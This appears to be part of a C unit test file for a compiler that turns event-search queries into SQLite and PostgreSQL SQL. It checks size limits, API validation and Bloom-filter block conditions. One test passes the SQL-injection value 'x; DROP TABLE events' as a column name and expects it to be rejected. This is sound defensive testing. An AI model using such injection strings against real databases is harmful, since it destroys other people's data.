	n += (size_t)snprintf(q + n, sizeof(q) - n, "a:b");
	for (int i = 0; i < 32; i++)
		q[n++] = ')';
	q[n] = '\0';
	assert_int_equal(compile(q, QUERY_SQLITE, &s), 0);
	query_sql_release(&s);
	memmove(q + 1, q, n + 1);
	q[0] = '(';
	q[n + 1] = ')';
	q[n + 2] = '\0';
	check_err(q, -E2BIG, 32, "nested too deeply");
	n = 0;
	for (int i = 0; i < 33; i++)
		n += (size_t)snprintf(q + n, sizeof(q) - n, "not ");
	n += (size_t)snprintf(q + n, sizeof(q) - n, "x");
	check_err(q, -E2BIG, 128, "nested too deeply");
	n = (size_t)snprintf(q, sizeof(q), "a:");
	for (int i = 0; i < 33; i++)
		q[n++] = '(';
	q[n++] = 'b';
	for (int i = 0; i < 33; i++)
		q[n++] = ')';
	q[n] = '\0';
	check_err(q, -E2BIG, 34, "nested too deeply");

	/* 64 terms (doc fields: two parameters each) compile in both dialects, 65 do not. */
	n = 0;
	for (int i = 0; i < 64; i++)
		n += (size_t)snprintf(q + n, sizeof(q) - n, "%snot a.b%d > %d", i ? " or " : "", i,
				      i);
	assert_int_equal(compile(q, QUERY_SQLITE, &s), 0);
	assert_int_equal(s.nparams, 128);
	query_sql_release(&s);
	assert_int_equal(compile(q, QUERY_PG, &s), 0);
	assert_int_equal(s.nparams, 128);
	assert_non_null(strstr(s.sql.data, "$128::bigint"));
	query_sql_release(&s);
	snprintf(q + n, sizeof(q) - n, " or x");
	check_err(q, -E2BIG, n + 4, "too many terms (max 64)");
	n = (size_t)snprintf(q, sizeof(q), "tags:(v0");
	for (int i = 1; i < 64; i++)
		n += (size_t)snprintf(q + n, sizeof(q) - n, " or v%d", i);
	snprintf(q + n, sizeof(q) - n, " or last)");
	check_err(q, -E2BIG, n + 4, "too many terms (max 64)");

	/* Length. */
	memset(q, 'a', QUERY_MAX_LEN + 1);
	q[QUERY_MAX_LEN + 1] = '\0';
	check_err(q, -E2BIG, QUERY_MAX_LEN, "query longer than 4096 bytes");
	q[QUERY_MAX_LEN] = '\0';
	assert_int_equal(compile(q, QUERY_PG, &s), 0);
	query_sql_release(&s);
	memset(q, 'f', QUERY_MAX_FIELD + 1);
	snprintf(q + QUERY_MAX_FIELD + 1, 8, ":x");
	check_err(q, -E2BIG, 0, "field name longer than 128 bytes");
	snprintf(q + QUERY_MAX_FIELD, 8, ":x");
	assert_int_equal(compile(q, QUERY_SQLITE, &s), 0);
	query_sql_release(&s);

	/* The largest output: every byte a control character, JSON-escaped six times over. */
	q[0] = '"';
	memset(q + 1, '\x01', QUERY_MAX_LEN - 2);
	q[QUERY_MAX_LEN - 1] = '"';
	q[QUERY_MAX_LEN] = '\0';
	assert_int_equal(compile(q, QUERY_PG, &s), 0);
	assert_int_equal(s.params[0].len, 6 * (QUERY_MAX_LEN - 2) + 2);
	query_sql_release(&s);
}

static void test_api(void **state)
{
	static const struct query_column bad[] = {{"x", "x; DROP TABLE events", QUERY_TEXT}};
	static const struct query_column bad_type[] = {{"x", "x", (enum query_type)7}};
	struct query_sql s;
	char err[64];
	size_t pos;

	(void)state;
	assert_int_equal(query_compile("x:1", 3, QUERY_SQLITE, bad, 1, &s, err, sizeof(err), &pos),
			 -EINVAL);
	assert_string_equal(err, "invalid column map entry 0");
	assert_int_equal(
	    query_compile("x:1", 3, QUERY_SQLITE, bad_type, 1, &s, err, sizeof(err), &pos),
	    -EINVAL);
	assert_int_equal(query_compile("x:1", 3, QUERY_SQLITE, NULL, 1, &s, err, sizeof(err), &pos),
			 -EINVAL);
	assert_int_equal(
	    query_compile("x:1", 3, (enum query_dialect)9, cols, NCOLS, &s, NULL, 0, NULL),
	    -EINVAL);
	/* No column map: everything is a doc field; err and errpos are optional. */
	assert_int_equal(
	    query_compile("process.pid:1", 13, QUERY_SQLITE, NULL, 0, &s, NULL, 0, NULL), 0);
	assert_int_equal(s.nparams, 2);
	query_sql_release(&s);
	query_sql_release(&s);
	query_sql_release(NULL);
	/* The length is honoured: no NUL needed. */
	assert_int_equal(
	    query_compile("a:bc", 3, QUERY_SQLITE, cols, NCOLS, &s, err, sizeof(err), &pos), 0);
	assert_string_equal(s.params[1].text, "b");
	query_sql_release(&s);
	/* A tiny err buffer truncates. */
	assert_int_equal(query_compile("(", 1, QUERY_SQLITE, cols, NCOLS, &s, err, 8, &pos),
			 -EINVAL);
	assert_string_equal(err, "expecte");
}

/* Bitmask of the event ids (1..NEVENTS) selected by sql with the query's parameters, then the
 * block keys when blocks is set. */
static unsigned long select_ids(const char *sql, const struct query_sql *s, bool blocks)
{
	sqlite3_stmt *st;
	unsigned long ids = 0;
	int k = 1;

	if (sqlite3_prepare_v2(db, sql, -1, &st, NULL) != SQLITE_OK) {
		print_error("%s\n%s\n", sqlite3_errmsg(db), sql);
		fail();
	}
	for (size_t i = 0; !blocks && i < s->nparams; i++, k++) {
		if (s->params[i].type == QUERY_INT)
			sqlite3_bind_int64(st, k, s->params[i].num);
		else
			sqlite3_bind_text(st, k, s->params[i].text, (int)s->params[i].len,
					  SQLITE_STATIC);
	}
	for (size_t i = 0; blocks && i < s->nblock_keys; i++, k++)
		sqlite3_bind_int64(st, k, s->block_keys[i]);
	assert_int_equal(sqlite3_bind_parameter_count(st), k - 1);
	while (sqlite3_step(st) == SQLITE_ROW)
		ids |= 1ul << sqlite3_column_int64(st, 0);
	sqlite3_finalize(st);
	return ids;
}

/* The block condition never rules out a block that holds a match (no false negative), and it
 * narrows the search when the query has exact matches on filtered columns. */
static void check_blocks(const char *q, bool narrows)
{
	struct query_sql s;
	struct dynbuf sql;
	unsigned long match, kept;

	assert_int_equal(compile(q, QUERY_SQLITE, &s), 0);
	dynbuf_init(&sql, 1 << 20);
	assert_int_equal(dynbuf_printf(&sql, "SELECT id FROM events WHERE %s", s.sql.data), 0);
	match = select_ids(sql.data, &s, false);
	if (!s.nblock_keys) {
		assert_false(narrows);
		goto out;
	}
	dynbuf_reset(&sql);
	assert_int_equal(dynbuf_printf(&sql, "SELECT id FROM event_blocks WHERE %s", s.blocks.data),
			 0);
	kept = select_ids(sql.data, &s, true);
	if ((match & ~kept) || (narrows && kept == (2ul << NEVENTS) - 2)) {
		print_error("query %s: blocks %s kept %#lx, matches %#lx\n", q, s.blocks.data, kept,
			    match);
		fail();
	}
out:
	dynbuf_release(&sql);
	query_sql_release(&s);
}

static void test_blocks(void **state)
{
	struct query_sql s;

	(void)state;
	check_blocks("process.entity_id:e1", true);
	check_blocks("process.parent.entity_id:e1", true);
	check_blocks("process.entity_id:e1 or process.parent.entity_id:e1", true);
	check_blocks("process.entity_id:(e1 or e3)", true);
	check_blocks("process.entity_id:e1 and user.name:root", true);
	check_blocks("file.path:\"/etc/crontab\" and not user.name:root", true);
	check_blocks("destination.ip:203.0.113.5 or dns.question.name:evil.example.com", true);
	check_blocks("process.hash.sha256:aa11 and tags:prod", true);
	check_blocks("process.name:bash and (host.name:web-1 or event.action:exec)", true);
	check_blocks("not process.entity_id:e1", false);
	check_blocks("not (process.entity_id:e1 and user.name:root)", false);
	check_blocks("process.entity_id:e* and user.name:root", true);
	check_blocks("process.entity_id:e1 or host.name:web-2", true);
	check_blocks("process.entity_id:e1 or event.action:exec", false);
	check_blocks("process.entity_id:e*", false);
	check_blocks("process.pid:1200 or user.name:nobody", false);
	check_blocks("host.name:web-1", true);
	check_blocks("host.name:web-*", false);
	check_blocks("bash", false);
	check_blocks("process.name:bash and not process.entity_id:e1", true);
	check_blocks("process.name:bash and process.pid > 1000", true);
	check_blocks("user.name:root and file.path:*", true);
	/* Terms and block SQL side by side. */
	assert_int_equal(compile("process.entity_id:e1 or not user.name:x", QUERY_SQLITE, &s), 0);
	assert_string_equal(s.blocks.data, "(mamori_bloom(bloom, ?) OR 1)");
	assert_int_equal(s.nblock_keys, 1);
	assert_int_equal((uint64_t)s.block_keys[0], event_bloom_key("entity_id", "e1", 2));
	assert_false(s.uses_doc);
	query_sql_release(&s);
	assert_int_equal(compile("tags:prod and file.path:(a or \"b\\\"c\")", QUERY_SQLITE, &s),
			 0);
	assert_string_equal(s.blocks.data, "(1 AND (mamori_bloom(bloom, ?) OR mamori_bloom(bloom, ?)))");
	assert_int_equal((uint64_t)s.block_keys[1], event_bloom_key("path", "b\"c", 3));
	assert_true(s.uses_doc);
	query_sql_release(&s);
	assert_int_equal(compile("", QUERY_SQLITE, &s), 0);
	assert_string_equal(s.blocks.data, "(1)");
	assert_int_equal(s.nblock_keys, 0);
	query_sql_release(&s);
	/* PostgreSQL indexes every event: no block condition. */
	assert_int_equal(compile("process.entity_id:e1", QUERY_PG, &s), 0);
	assert_int_equal(s.nblock_keys, 0);
	assert_true(s.blocks.len == 0);
	query_sql_release(&s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_sql_sqlite),
	    cmocka_unit_test(test_sql_pg),
	    cmocka_unit_test(test_sql_pg_bare),
	    cmocka_unit_test(test_exec_match),
	    cmocka_unit_test(test_exec_exists_lists),
	    cmocka_unit_test(test_exec_boolean),
	    cmocka_unit_test(test_exec_ranges),
	    cmocka_unit_test(test_exec_doc),
	    cmocka_unit_test(test_exec_bare),
	    cmocka_unit_test(test_errors),
	    cmocka_unit_test(test_limits),
	    cmocka_unit_test(test_api),
	    cmocka_unit_test(test_blocks),
	};

	return cmocka_run_group_tests(tests, setup_db, teardown_db);
}
